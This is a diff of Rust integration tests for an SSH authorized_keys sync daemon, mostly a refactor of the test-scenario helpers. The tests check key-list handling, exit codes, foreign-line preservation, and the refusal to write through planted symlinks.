@@ -25,7 +25,7 @@ use crate::support::fake_cp::{
     Endpoint, FakeControlPlane, Fault, Shape, fixture_keys, gen_ed25519_keys,
 };
 use crate::support::files::{FileState, chmod, temp_files};
-use crate::support::scenario::{Scenario, TOKEN, wait_block_any_order};
+use crate::support::scenario::{Scenario, TOKEN, wait_block_any_order, with_fixture, with_no_keys};
 use crate::support::users::TestUser;
 use crate::support::{DEADLINE, eventually, http, require_root, sorted};
 
@@ -60,196 +60,191 @@ fn replace_file(path: &Path, content: &[u8], tmp_name: &str) {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn daemon_follows_every_shape_ignores_soft_deleted_and_obeys_the_no_keys_404() {
-    Scenario::with_fixture()
-        .await
-        .run(|s| {
-            let (cp, env) = (&s.cp, &s.env);
-            let [alice, bob, retired] = fixture_keys().map(str::to_string);
-            let extra = gen_ed25519_keys(4);
-            env.write_config(s.config());
-            let agent = env.spawn();
-            // The fixture list: old@retired is soft-deleted.
-            wait_block(env, &agent, &[alice.clone(), bob.clone()], "fixture list");
-            assert!(!env.read_target().unwrap_or_default().contains(&retired));
+    with_fixture(|s| {
+        let (cp, env) = (&s.cp, &s.env);
+        let [alice, bob, retired] = fixture_keys().map(str::to_string);
+        let extra = gen_ed25519_keys(4);
+        env.write_config(s.config());
+        let agent = env.spawn();
+        // The fixture list: old@retired is soft-deleted.
+        wait_block(env, &agent, &[alice.clone(), bob.clone()], "fixture list");
+        assert!(!env.read_target().unwrap_or_default().contains(&retired));
 
-            for (i, shape) in [Shape::ArrayKey, Shape::ArrayPublicKey, Shape::ObjectSshKeys]
-                .into_iter()
-                .enumerate()
-            {
-                let what = format!("{shape:?}");
-                cp.set_shape(shape);
-                cp.set_keys([alice.clone(), bob.clone()]);
-                wait_block(env, &agent, &[alice.clone(), bob.clone()], &what);
-                cp.add_key(&extra[i]);
-                wait_block(
-                    env,
-                    &agent,
-                    &[alice.clone(), bob.clone(), extra[i].clone()],
-                    &format!("{what}: added"),
-                );
-                assert!(cp.remove_key(&bob));
-                wait_block(
-                    env,
-                    &agent,
-                    &[alice.clone(), extra[i].clone()],
-                    &format!("{what}: removed"),
-                );
-                assert!(cp.soft_delete(&extra[i]));
-                let body = served_body(cp);
-                if shape == Shape::ObjectSshKeys {
-                    assert!(
-                        !body.contains(&extra[i]),
-                        "{what}: the object shape lists a deleted key"
-                    );
-                } else {
-                    // The array shapes keep the entry, with deleted_at set.
-                    assert!(
-                        body.contains(&extra[i]) && body.contains("\"deleted_at\":\"2"),
-                        "{what}: {body}"
-                    );
-                }
-                wait_block(
-                    env,
-                    &agent,
-                    std::slice::from_ref(&alice),
-                    &format!("{what}: soft-deleted"),
-                );
-            }
-
-            // The fixture files of the design, replayed byte for byte.
-            let fixtures =
-                Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/control-plane");
-            for name in [
-                "list-array-key.json",
-                "list-array-public-key.json",
-                "list-object-ssh-keys.json",
-            ] {
-                cp.set_keys([extra[3].clone()]);
-                wait_block(env, &agent, std::slice::from_ref(&extra[3]), name);
-                let body = std::fs::read_to_string(fixtures.join(name)).expect("fixture");
-                cp.set_fault(Fault::json_body(body), None);
-                wait_block(env, &agent, &[alice.clone(), bob.clone()], name);
-                cp.clear_fault();
-            }
-
-            // The authoritative empty list: 404 "No SSH keys found". Removing all
-            // three keys is a mass removal, confirmed by a second fetch.
-            cp.set_keys([alice.clone(), bob.clone(), extra[0].clone()]);
+        for (i, shape) in [Shape::ArrayKey, Shape::ArrayPublicKey, Shape::ObjectSshKeys]
+            .into_iter()
+            .enumerate()
+        {
+            let what = format!("{shape:?}");
+            cp.set_shape(shape);
+            cp.set_keys([alice.clone(), bob.clone()]);
+            wait_block(env, &agent, &[alice.clone(), bob.clone()], &what);
+            cp.add_key(&extra[i]);
             wait_block(
                 env,
                 &agent,
-                &[alice.clone(), bob.clone(), extra[0].clone()],
-                "before the 404",
+                &[alice.clone(), bob.clone(), extra[i].clone()],
+                &format!("{what}: added"),
             );
-            let seen = cp.request_count();
-            cp.set_keys(Vec::<String>::new());
-            let gone = eventually(DEADLINE, || {
-                env.read_target()
-                    .is_some_and(|t| !t.contains("# BEGIN keysync") && !t.contains("# END keysync"))
-            });
-            let no_keys_404s = cp.requests()[seen..]
-                .iter()
-                .filter(|r| r.endpoint == Endpoint::List && r.status == Some(404))
-                .count();
-            assert!(
-                gone,
-                "the no-keys 404 did not remove the block: {:?}\n{}",
-                env.read_target(),
-                agent.log_tail()
-            );
-            assert!(
-                no_keys_404s >= 2,
-                "the removal was written after {no_keys_404s} no-keys 404(s), without confirmation"
-            );
-            assert_eq!(
-                env.read_target().as_deref(),
-                Some(""),
-                "only the block was in the file"
-            );
-            assert_eq!(
-                env.cache("root").as_deref(),
-                Some(""),
-                "the hook cache must be empty"
-            );
-
-            // And keys come back after the empty list.
-            cp.set_keys([bob.clone()]);
+            assert!(cp.remove_key(&bob));
             wait_block(
                 env,
                 &agent,
-                std::slice::from_ref(&bob),
-                "after the empty list",
+                &[alice.clone(), extra[i].clone()],
+                &format!("{what}: removed"),
             );
-            let (status, took) = agent.stop(Duration::from_secs(5));
-            assert!(status.success(), "stop: {status:?} after {took:?}");
-        })
-        .await;
+            assert!(cp.soft_delete(&extra[i]));
+            let body = served_body(cp);
+            if shape == Shape::ObjectSshKeys {
+                assert!(
+                    !body.contains(&extra[i]),
+                    "{what}: the object shape lists a deleted key"
+                );
+            } else {
+                // The array shapes keep the entry, with deleted_at set.
+                assert!(
+                    body.contains(&extra[i]) && body.contains("\"deleted_at\":\"2"),
+                    "{what}: {body}"
+                );
+            }
+            wait_block(
+                env,
+                &agent,
+                std::slice::from_ref(&alice),
+                &format!("{what}: soft-deleted"),
+            );
+        }
+
+        // The fixture files of the design, replayed byte for byte.
+        let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/control-plane");
+        for name in [
+            "list-array-key.json",
+            "list-array-public-key.json",
+            "list-object-ssh-keys.json",
+        ] {
+            cp.set_keys([extra[3].clone()]);
+            wait_block(env, &agent, std::slice::from_ref(&extra[3]), name);
+            let body = std::fs::read_to_string(fixtures.join(name)).expect("fixture");
+            cp.set_fault(Fault::json_body(body), None);
+            wait_block(env, &agent, &[alice.clone(), bob.clone()], name);
+            cp.clear_fault();
+        }
+
+        // The authoritative empty list: 404 "No SSH keys found". Removing all
+        // three keys is a mass removal, confirmed by a second fetch.
+        cp.set_keys([alice.clone(), bob.clone(), extra[0].clone()]);
+        wait_block(
+            env,
+            &agent,
+            &[alice.clone(), bob.clone(), extra[0].clone()],
+            "before the 404",
+        );
+        let seen = cp.request_count();
+        cp.set_keys(Vec::<String>::new());
+        let gone = eventually(DEADLINE, || {
+            env.read_target()
+                .is_some_and(|t| !t.contains("# BEGIN keysync") && !t.contains("# END keysync"))
+        });
+        let no_keys_404s = cp.requests()[seen..]
+            .iter()
+            .filter(|r| r.endpoint == Endpoint::List && r.status == Some(404))
+            .count();
+        assert!(
+            gone,
+            "the no-keys 404 did not remove the block: {:?}\n{}",
+            env.read_target(),
+            agent.log_tail()
+        );
+        assert!(
+            no_keys_404s >= 2,
+            "the removal was written after {no_keys_404s} no-keys 404(s), without confirmation"
+        );
+        assert_eq!(
+            env.read_target().as_deref(),
+            Some(""),
+            "only the block was in the file"
+        );
+        assert_eq!(
+            env.cache("root").as_deref(),
+            Some(""),
+            "the hook cache must be empty"
+        );
+
+        // And keys come back after the empty list.
+        cp.set_keys([bob.clone()]);
+        wait_block(
+            env,
+            &agent,
+            std::slice::from_ref(&bob),
+            "after the empty list",
+        );
+        let (status, took) = agent.stop(Duration::from_secs(5));
+        assert!(status.success(), "stop: {status:?} after {took:?}");
+    })
+    .await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn run_once_exit_codes() {
-    Scenario::with_fixture()
-        .await
-        .run(|s| {
-            let (cp, env) = (&s.cp, &s.env);
-            let [alice, bob, _] = fixture_keys().map(str::to_string);
-            let good = s.config();
-            env.write_config(&good);
+    with_fixture(|s| {
+        let (cp, env) = (&s.cp, &s.env);
+        let [alice, bob, _] = fixture_keys().map(str::to_string);
+        let good = s.config();
+        env.write_config(&good);
 
-            // 0: every source answered, every user written.
-            let (code, stderr) = env.run_once_exit();
-            assert_eq!(code, 0, "{stderr}");
-            assert_eq!(
-                sorted(&block_keys(&env.read_target().expect("target"))),
-                sorted(&[alice.clone(), bob.clone()])
-            );
+        // 0: every source answered, every user written.
+        let (code, stderr) = env.run_once_exit();
+        assert_eq!(code, 0, "{stderr}");
+        assert_eq!(
+            sorted(&block_keys(&env.read_target().expect("target"))),
+            sorted(&[alice.clone(), bob.clone()])
+        );
 
-            // 1: the source fails, yet the last good keys are written.
-            std::fs::remove_file(env.target()).expect("rm target");
-            cp.set_fault(Fault::server_error(500), None);
-            let (code, stderr) = env.run_once_exit();
-            assert_eq!(code, 1, "{stderr}");
-            assert_eq!(
-                sorted(&block_keys(
-                    &env.read_target().expect("last good keys written")
-                )),
-                sorted(&[alice.clone(), bob.clone()])
-            );
-            cp.clear_fault();
+        // 1: the source fails, yet the last good keys are written.
+        std::fs::remove_file(env.target()).expect("rm target");
+        cp.set_fault(Fault::server_error(500), None);
+        let (code, stderr) = env.run_once_exit();
+        assert_eq!(code, 1, "{stderr}");
+        assert_eq!(
+            sorted(&block_keys(
+                &env.read_target().expect("last good keys written")
+            )),
+            sorted(&[alice.clone(), bob.clone()])
+        );
+        cp.clear_fault();
 
-            // 2: a bad config (an unknown key), named by file, line and field.
-            let bad = s.config().set("bogus_knob", 1).to_string();
-            let line = bad
-                .lines()
-                .position(|l| l.starts_with("bogus_knob"))
-                .expect("line")
-                + 1;
-            env.write_config(&bad);
-            let before = FileState::of(&env.target());
-            let (code, stderr) = env.run_once_exit();
-            assert_eq!(code, 2, "{stderr}");
-            let config = env.config_path().display().to_string();
-            for needle in [config.as_str(), &format!("line {line}"), "bogus_knob"] {
-                assert!(
-                    stderr.contains(needle),
-                    "the error does not name {needle:?}:\n{stderr}"
-                );
-            }
-            assert_eq!(
-                FileState::of(&env.target()),
-                before,
-                "a bad config wrote the target"
-            );
-            // The daemon refuses to start on it the same way.
-            let mut agent = env.spawn();
+        // 2: a bad config (an unknown key), named by file, line and field.
+        let bad = s.config().set("bogus_knob", 1).to_string();
+        let line = bad
+            .lines()
+            .position(|l| l.starts_with("bogus_knob"))
+            .expect("line")
+            + 1;
+        env.write_config(&bad);
+        let before = FileState::of(&env.target());
+        let (code, stderr) = env.run_once_exit();
+        assert_eq!(code, 2, "{stderr}");
+        let config = env.config_path().display().to_string();
+        for needle in [config.as_str(), &format!("line {line}"), "bogus_knob"] {
             assert!(
-                eventually(DEADLINE, || !agent.alive()),
-                "the daemon runs on a bad config"
+                stderr.contains(needle),
+                "the error does not name {needle:?}:\n{stderr}"
             );
-            let (status, _) = agent.stop(Duration::from_secs(5));
-            assert_eq!(status.code(), Some(2), "daemon exit on a bad config");
-        })
-        .await;
+        }
+        assert_eq!(
+            FileState::of(&env.target()),
+            before,
+            "a bad config wrote the target"
+        );
+        // The daemon refuses to start on it the same way.
+        let mut agent = env.spawn();
+        assert!(
+            eventually(DEADLINE, || !agent.alive()),
+            "the daemon runs on a bad config"
+        );
+        let (status, _) = agent.stop(Duration::from_secs(5));
+        assert_eq!(status.code(), Some(2), "daemon exit on a bad config");
+    })
+    .await;
 }
 
 // ---------------------------------------------------------------------------
@@ -257,85 +252,82 @@ async fn run_once_exit_codes() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn foreign_lines_survive_byte_for_byte_also_when_another_writer_replaces_the_file() {
-    Scenario::new()
-        .await
-        .run(|s| {
-            let (cp, env) = (&s.cp, &s.env);
-            let k = gen_ed25519_keys(8);
-            let (platform, by_hand, stale) = (&k[5], &k[6], &k[7]);
-            cp.set_keys([k[0].clone(), k[1].clone()]);
-            make_target_dir(env);
-            // CRLF lines before the block, a stale block, a CRLF line and a last
-            // line without a newline after it.
-            let before = format!("# keys below are managed by the cloud\r\n{platform}\r\n\n");
-            let after = format!("# added by hand\r\n{by_hand}");
-            let initial = format!("{before}{}{after}", block(std::slice::from_ref(stale)));
-            std::fs::write(env.target(), &initial).expect("seed target");
-            chmod(&env.target(), 0o600);
-            env.write_config(s.config());
-            let agent = env.spawn();
+    with_no_keys(|s| {
+        let (cp, env) = (&s.cp, &s.env);
+        let k = gen_ed25519_keys(8);
+        let (platform, by_hand, stale) = (&k[5], &k[6], &k[7]);
+        cp.set_keys([k[0].clone(), k[1].clone()]);
+        make_target_dir(env);
+        // CRLF lines before the block, a stale block, a CRLF line and a last
+        // line without a newline after it.
+        let before = format!("# keys below are managed by the cloud\r\n{platform}\r\n\n");
+        let after = format!("# added by hand\r\n{by_hand}");
+        let initial = format!("{before}{}{after}", block(std::slice::from_ref(stale)));
+        std::fs::write(env.target(), &initial).expect("seed target");
+        chmod(&env.target(), 0o600);
+        env.write_config(s.config());
+        let agent = env.spawn();
 
-            let exact = |want: String, what: &str| {
-                let ok = eventually(DEADLINE, || {
-                    env.read_target().as_deref() == Some(want.as_str())
-                });
-                assert!(
-                    ok,
-                    "{what}: expected\n{want:?}\ngot\n{:?}\nagent log:\n{}",
-                    env.read_target(),
-                    agent.log_tail()
-                );
-            };
-            exact(format!("{before}{}{after}", block(&k[..2])), "first sync");
-            cp.set_keys(k[..3].to_vec());
-            exact(format!("{before}{}{after}", block(&k[..3])), "key added");
-
-            // Another writer renames a new file over the target, with extra
-            // foreign lines around an intact block; the next change keeps them.
-            let current = env.read_target().expect("target");
-            let replaced =
-                format!("# another writer was here\r\n{current}\n# and here, no newline");
-            replace_file(&env.target(), replaced.as_bytes(), "other-writer.tmp");
-            cp.set_keys([k[0].clone(), k[2].clone(), k[3].clone()]);
-            exact(
-                replaced.replace(
-                    &block(&k[..3]),
-                    &block(&[k[0].clone(), k[2].clone(), k[3].clone()]),
-                ),
-                "after another writer added lines",
-            );
-
-            // The platform rewrites the file without the block (and without a
-            // final newline): the block is re-asserted at once, with no change on
-            // the API, after the platform's lines.
-            let platform_file = format!("# rewritten by the platform\n{platform}");
-            replace_file(&env.target(), platform_file.as_bytes(), "platform.tmp");
-            exact(
-                format!(
-                    "{platform_file}\n{}",
-                    block(&[k[0].clone(), k[2].clone(), k[3].clone()])
-                ),
-                "after the platform dropped the block",
-            );
-            // The agent counts a repair after writing it: let the count catch up.
-            let mut status = serde_json::Value::Null;
-            let counted = eventually(DEADLINE, || {
-                status = env.status_json();
-                status["users"]["root"]["drift_repairs"]
-                    .as_u64()
-                    .unwrap_or(0)
-                    >= 1
+        let exact = |want: String, what: &str| {
+            let ok = eventually(DEADLINE, || {
+                env.read_target().as_deref() == Some(want.as_str())
             });
-            assert!(counted, "drift repair not counted: {status}");
-            let (status, _) = agent.stop(Duration::from_secs(5));
-            assert!(status.success());
-        })
-        .await;
+            assert!(
+                ok,
+                "{what}: expected\n{want:?}\ngot\n{:?}\nagent log:\n{}",
+                env.read_target(),
+                agent.log_tail()
+            );
+        };
+        exact(format!("{before}{}{after}", block(&k[..2])), "first sync");
+        cp.set_keys(k[..3].to_vec());
+        exact(format!("{before}{}{after}", block(&k[..3])), "key added");
+
+        // Another writer renames a new file over the target, with extra
+        // foreign lines around an intact block; the next change keeps them.
+        let current = env.read_target().expect("target");
+        let replaced = format!("# another writer was here\r\n{current}\n# and here, no newline");
+        replace_file(&env.target(), replaced.as_bytes(), "other-writer.tmp");
+        cp.set_keys([k[0].clone(), k[2].clone(), k[3].clone()]);
+        exact(
+            replaced.replace(
+                &block(&k[..3]),
+                &block(&[k[0].clone(), k[2].clone(), k[3].clone()]),
+            ),
+            "after another writer added lines",
+        );
+
+        // The platform rewrites the file without the block (and without a
+        // final newline): the block is re-asserted at once, with no change on
+        // the API, after the platform's lines.
+        let platform_file = format!("# rewritten by the platform\n{platform}");
+        replace_file(&env.target(), platform_file.as_bytes(), "platform.tmp");
+        exact(
+            format!(
+                "{platform_file}\n{}",
+                block(&[k[0].clone(), k[2].clone(), k[3].clone()])
+            ),
+            "after the platform dropped the block",
+        );
+        // The agent counts a repair after writing it: let the count catch up.
+        let mut status = serde_json::Value::Null;
+        let counted = eventually(DEADLINE, || {
+            status = env.status_json();
+            status["users"]["root"]["drift_repairs"]
+                .as_u64()
+                .unwrap_or(0)
+                >= 1
+        });
+        assert!(counted, "drift repair not counted: {status}");
+        let (status, _) = agent.stop(Duration::from_secs(5));
+        assert!(status.success());
+    })
+    .await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn racing_writer_keeps_its_line_and_the_block_follows_the_api() {
-    Scenario::new().await.run(|s| {
+    with_no_keys(|s| {
         let (cp, env) = (&s.cp, &s.env);
         let pool = gen_ed25519_keys(10);
         const FOREIGN: &str = "# foreign line of the racing writer";
@@ -423,180 +415,178 @@ async fn planted_symlinks_are_never_written_through_and_root_links_are_followed(
     if !require_root("planted_symlinks_are_never_written_through_and_root_links_are_followed") {
         return;
     }
-    Scenario::new()
-        .await
-        .run(|s| {
-            let (cp, env) = (&s.cp, &s.env);
-            let keys = gen_ed25519_keys(2);
-            cp.set_keys(keys.clone());
-            // Homes live below the test dir; users must be able to reach them.
-            chmod(env.path(), 0o755);
+    with_no_keys(|s| {
+        let (cp, env) = (&s.cp, &s.env);
+        let keys = gen_ed25519_keys(2);
+        cp.set_keys(keys.clone());
+        // Homes live below the test dir; users must be able to reach them.
+        chmod(env.path(), 0o755);
 
-            // A root-owned file and a root-owned directory a user would love to write into.
-            let secret = env.path().join("root-secret");
-            std::fs::write(&secret, "root's own file\n").expect("secret");
-            chmod(&secret, 0o600);
-            let secret_before = FileState::of(&secret);
-            let root_dir = env.path().join("root-only");
-            std::fs::create_dir(&root_dir).expect("root dir");
-            chmod(&root_dir, 0o700);
+        // A root-owned file and a root-owned directory a user would love to write into.
+        let secret = env.path().join("root-secret");
+        std::fs::write(&secret, "root's own file\n").expect("secret");
+        chmod(&secret, 0o600);
+        let secret_before = FileState::of(&secret);
+        let root_dir = env.path().join("root-only");
+        std::fs::create_dir(&root_dir).expect("root dir");
+        chmod(&root_dir, 0o700);
 
-            // a: authorized_keys is the user's link to the root-owned file.
-            let a = TestUser::create("keysync-t4", env.path().join("home-a"), true);
-            let a_ssh = a.home.join(".ssh");
-            std::fs::create_dir(&a_ssh).expect("mkdir");
-            chmod(&a_ssh, 0o700);
-            a.chown(&a_ssh);
-            let a_link = a_ssh.join("authorized_keys");
-            std::os::unix::fs::symlink(&secret, &a_link).expect("symlink");
-            a.chown(&a_link);
+        // a: authorized_keys is the user's link to the root-owned file.
+        let a = TestUser::create("keysync-t4", env.path().join("home-a"), true);
+        let a_ssh = a.home.join(".ssh");
+        std::fs::create_dir(&a_ssh).expect("mkdir");
+        chmod(&a_ssh, 0o700);
+        a.chown(&a_ssh);
+        let a_link = a_ssh.join("authorized_keys");
+        std::os::unix::fs::symlink(&secret, &a_link).expect("symlink");
+        a.chown(&a_link);
 
-            // b: .ssh is the user's link to the root-owned directory.
-            let b = TestUser::create("keysync-t4", env.path().join("home-b"), true);
-            let b_link = b.home.join(".ssh");
-            std::os::unix::fs::symlink(&root_dir, &b_link).expect("symlink");
-            b.chown(&b_link);
+        // b: .ssh is the user's link to the root-owned directory.
+        let b = TestUser::create("keysync-t4", env.path().join("home-b"), true);
+        let b_link = b.home.join(".ssh");
+        std::os::unix::fs::symlink(&root_dir, &b_link).expect("symlink");
+        b.chown(&b_link);
 
-            // c: .ssh is a root-owned link to c's own 0700 directory: sshd's
-            // rule holds, so it is followed (with c's fsuid).
-            let c = TestUser::create("keysync-t4", env.path().join("home-c"), true);
-            let c_real = env.path().join("c-real-ssh");
-            std::fs::create_dir(&c_real).expect("mkdir");
-            chmod(&c_real, 0o700);
-            c.chown(&c_real);
-            std::os::unix::fs::symlink(&c_real, c.home.join(".ssh")).expect("symlink");
+        // c: .ssh is a root-owned link to c's own 0700 directory: sshd's
+        // rule holds, so it is followed (with c's fsuid).
+        let c = TestUser::create("keysync-t4", env.path().join("home-c"), true);
+        let c_real = env.path().join("c-real-ssh");
+        std::fs::create_dir(&c_real).expect("mkdir");
+        chmod(&c_real, 0o700);
+        c.chown(&c_real);
+        std::os::unix::fs::symlink(&c_real, c.home.join(".ssh")).expect("symlink");
 
-            // root: its .ssh is a root-owned link to a root-owned 0700 directory.
-            let root_real = env.path().join("root-real-ssh");
-            std::fs::create_dir(&root_real).expect("mkdir");
-            chmod(&root_real, 0o700);
-            let home = env.path().join("home");
-            std::fs::create_dir(&home).expect("mkdir");
-            std::os::unix::fs::symlink(&root_real, home.join(".ssh")).expect("symlink");
+        // root: its .ssh is a root-owned link to a root-owned 0700 directory.
+        let root_real = env.path().join("root-real-ssh");
+        std::fs::create_dir(&root_real).expect("mkdir");
+        chmod(&root_real, 0o700);
+        let home = env.path().join("home");
+        std::fs::create_dir(&home).expect("mkdir");
+        std::os::unix::fs::symlink(&root_real, home.join(".ssh")).expect("symlink");
 
-            let config = [&a, &b, &c].iter().fold(s.config(), |config, u| {
-                config.user(User::block(&u.name, "~/.ssh/authorized_keys"))
-            });
-            env.write_config(config);
-            let agent = env.spawn();
+        let config = [&a, &b, &c].iter().fold(s.config(), |config, u| {
+            config.user(User::block(&u.name, "~/.ssh/authorized_keys"))
+        });
+        env.write_config(config);
+        let agent = env.spawn();
 
-            wait_block_any_order(
-                &root_real.join("authorized_keys"),
-                &agent,
-                &keys,
-                "root through its root-owned link",
-            );
-            wait_block_any_order(
-                &c_real.join("authorized_keys"),
-                &agent,
-                &keys,
-                "c through the root-owned link",
-            );
-            let c_file = std::fs::metadata(c_real.join("authorized_keys")).expect("c file");
+        wait_block_any_order(
+            &root_real.join("authorized_keys"),
+            &agent,
+            &keys,
+            "root through its root-owned link",
+        );
+        wait_block_any_order(
+            &c_real.join("authorized_keys"),
+            &agent,
+            &keys,
+            "c through the root-owned link",
+        );
+        let c_file = std::fs::metadata(c_real.join("authorized_keys")).expect("c file");
+        assert_eq!(
+            (c_file.uid(), c_file.mode() & 0o7777),
+            (c.uid, 0o600),
+            "c's file owner and mode"
+        );
+        let check_untouched = |what: &str| {
             assert_eq!(
-                (c_file.uid(), c_file.mode() & 0o7777),
-                (c.uid, 0o600),
-                "c's file owner and mode"
+                FileState::of(&secret),
+                secret_before,
+                "{what}: the root-owned file was written through a's link"
             );
-            let check_untouched = |what: &str| {
-                assert_eq!(
-                    FileState::of(&secret),
-                    secret_before,
-                    "{what}: the root-owned file was written through a's link"
-                );
-                assert_eq!(
-                    std::fs::read_link(&a_link).ok().as_deref(),
-                    Some(secret.as_path()),
-                    "{what}: a's link"
-                );
-                assert_eq!(
-                    std::fs::read_link(&b_link).ok().as_deref(),
-                    Some(root_dir.as_path()),
-                    "{what}: b's link"
-                );
-                let in_root_dir: Vec<_> = std::fs::read_dir(&root_dir)
-                    .expect("ls")
-                    .flatten()
-                    .map(|e| e.path())
-                    .collect();
-                assert!(
-                    in_root_dir.is_empty(),
-                    "{what}: written into the root-only dir: {in_root_dir:?}"
-                );
-                assert!(
-                    temp_files(&a_ssh).is_empty(),
-                    "{what}: temp files left in a's .ssh"
-                );
-            };
-            // Wait until a and b were dealt with (an error, or a write: the
-            // latter would be the bug), then look at what is on disk first.
-            let dealt_with = |s: &serde_json::Value, u: &TestUser| {
-                let u = &s["users"][&u.name];
-                !u["last_error"].is_null() || !u["last_write"].is_null()
-            };
-            let mut status = serde_json::Value::Null;
-            let done = eventually(DEADLINE, || {
-                status = env.status_json();
-                dealt_with(&status, &a) && dealt_with(&status, &b)
-            });
-            check_untouched("daemon");
-            assert!(
-                done,
-                "a and b never dealt with: {status:#}\n{}",
-                agent.log_tail()
-            );
-            // Both are reported failed, for the symlink.
-            let failed = |s: &serde_json::Value, u: &TestUser| {
-                s["users"][&u.name]["last_error"]
-                    .as_str()
-                    .is_some_and(|e| e.contains("symlink"))
-            };
-            assert!(
-                failed(&status, &a) && failed(&status, &b),
-                "planted links not reported: {status:#}\n{}",
-                agent.log_tail()
-            );
-            for u in ["root", c.name.as_str()] {
-                assert!(
-                    status["users"][u]["last_error"].is_null(),
-                    "{u} reported failed: {status:#}"
-                );
-            }
             assert_eq!(
-                status_json_ready(env),
-                Some(false),
-                "ready although users failed"
+                std::fs::read_link(&a_link).ok().as_deref(),
+                Some(secret.as_path()),
+                "{what}: a's link"
             );
+            assert_eq!(
+                std::fs::read_link(&b_link).ok().as_deref(),
+                Some(root_dir.as_path()),
+                "{what}: b's link"
+            );
+            let in_root_dir: Vec<_> = std::fs::read_dir(&root_dir)
+                .expect("ls")
+                .flatten()
+                .map(|e| e.path())
+                .collect();
+            assert!(
+                in_root_dir.is_empty(),
+                "{what}: written into the root-only dir: {in_root_dir:?}"
+            );
+            assert!(
+                temp_files(&a_ssh).is_empty(),
+                "{what}: temp files left in a's .ssh"
+            );
+        };
+        // Wait until a and b were dealt with (an error, or a write: the
+        // latter would be the bug), then look at what is on disk first.
+        let dealt_with = |s: &serde_json::Value, u: &TestUser| {
+            let u = &s["users"][&u.name];
+            !u["last_error"].is_null() || !u["last_write"].is_null()
+        };
+        let mut status = serde_json::Value::Null;
+        let done = eventually(DEADLINE, || {
+            status = env.status_json();
+            dealt_with(&status, &a) && dealt_with(&status, &b)
+        });
+        check_untouched("daemon");
+        assert!(
+            done,
+            "a and b never dealt with: {status:#}\n{}",
+            agent.log_tail()
+        );
+        // Both are reported failed, for the symlink.
+        let failed = |s: &serde_json::Value, u: &TestUser| {
+            s["users"][&u.name]["last_error"]
+                .as_str()
+                .is_some_and(|e| e.contains("symlink"))
+        };
+        assert!(
+            failed(&status, &a) && failed(&status, &b),
+            "planted links not reported: {status:#}\n{}",
+            agent.log_tail()
+        );
+        for u in ["root", c.name.as_str()] {
+            assert!(
+                status["users"][u]["last_error"].is_null(),
+                "{u} reported failed: {status:#}"
+            );
+        }
+        assert_eq!(
+            status_json_ready(env),
+            Some(false),
+            "ready although users failed"
+        );
 
-            let (status, _) = agent.stop(Duration::from_secs(5));
-            assert!(status.success());
+        let (status, _) = agent.stop(Duration::from_secs(5));
+        assert!(status.success());
 
-            // run --once: the same, and exit 1 since users failed.
-            let (code, stderr) = env.run_once_exit();
-            assert_eq!(code, 1, "{stderr}");
-            assert!(stderr.contains("symlink"), "{stderr}");
-            check_untouched("run --once");
-            // A key change still reaches the good users in the same pass.
-            let more = gen_ed25519_keys(3);
-            cp.set_keys(more.clone());
-            let (code, stderr) = env.run_once_exit();
-            assert_eq!(code, 1, "{stderr}");
-            for path in [
-                root_real.join("authorized_keys"),
-                c_real.join("authorized_keys"),
-            ] {
-                let text = std::fs::read_to_string(&path).expect("written");
-                assert_eq!(
-                    sorted(&block_keys(&text)),
-                    sorted(&more),
-                    "{}",
-                    path.display()
-                );
-            }
-            check_untouched("run --once after a change");
-            drop((a, b, c));
-        })
-        .await;
+        // run --once: the same, and exit 1 since users failed.
+        let (code, stderr) = env.run_once_exit();
+        assert_eq!(code, 1, "{stderr}");
+        assert!(stderr.contains("symlink"), "{stderr}");
+        check_untouched("run --once");
+        // A key change still reaches the good users in the same pass.
+        let more = gen_ed25519_keys(3);
+        cp.set_keys(more.clone());
+        let (code, stderr) = env.run_once_exit();
+        assert_eq!(code, 1, "{stderr}");
+        for path in [
+            root_real.join("authorized_keys"),
+            c_real.join("authorized_keys"),
+        ] {
+            let text = std::fs::read_to_string(&path).expect("written");
+            assert_eq!(
+                sorted(&block_keys(&text)),
+                sorted(&more),
+                "{}",
+                path.display()
+            );
+        }
+        check_untouched("run --once after a change");
+        drop((a, b, c));
+    })
+    .await;
 }
 
 /// `/readyz` through `keysync status --check`: Some(true) when ready.
@@ -667,134 +657,132 @@ fn blob_of(line: &str) -> &str {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn hostile_keys_never_reach_the_file() {
-    Scenario::new()
-        .await
-        .run(|s| {
-            let (cp, env) = (&s.cp, &s.env);
-            let keys_dir = env.path().join("keys");
-            std::fs::create_dir(&keys_dir).expect("mkdir");
-            let pool = gen_ed25519_keys(10);
-            let [alice, bob, _] = fixture_keys().map(str::to_string);
-            let (ed_pub, ed_private) = keypair(&keys_dir, "real-ed25519", &["-t", "ed25519"]);
-            let (rsa_pub, _) = keypair(&keys_dir, "real-rsa3072", &["-t", "rsa", "-b", "3072"]);
-            let (ecdsa_pub, _) = keypair(&keys_dir, "real-ecdsa", &["-t", "ecdsa", "-b", "256"]);
-            let (rsa1024_pub, _) = keypair(&keys_dir, "weak-rsa1024", &["-t", "rsa", "-b", "1024"]);
-            let dss = Command::new("ssh-keygen")
-                .args(["-q", "-N", "", "-t", "dsa", "-f"])
-                .arg(keys_dir.join("old-dsa"))
-                .output()
-                .ok()
-                .filter(|o| o.status.success())
-                .and_then(|_| std::fs::read_to_string(keys_dir.join("old-dsa.pub")).ok())
-                .map(|s| s.trim_end().to_string())
-                .unwrap_or_else(dss_line);
-            assert!(dss.starts_with("ssh-dss "), "{dss}");
-            let blob = |i: usize| blob_of(&pool[i]).to_string();
+    with_no_keys(|s| {
+        let (cp, env) = (&s.cp, &s.env);
+        let keys_dir = env.path().join("keys");
+        std::fs::create_dir(&keys_dir).expect("mkdir");
+        let pool = gen_ed25519_keys(10);
+        let [alice, bob, _] = fixture_keys().map(str::to_string);
+        let (ed_pub, ed_private) = keypair(&keys_dir, "real-ed25519", &["-t", "ed25519"]);
+        let (rsa_pub, _) = keypair(&keys_dir, "real-rsa3072", &["-t", "rsa", "-b", "3072"]);
+        let (ecdsa_pub, _) = keypair(&keys_dir, "real-ecdsa", &["-t", "ecdsa", "-b", "256"]);
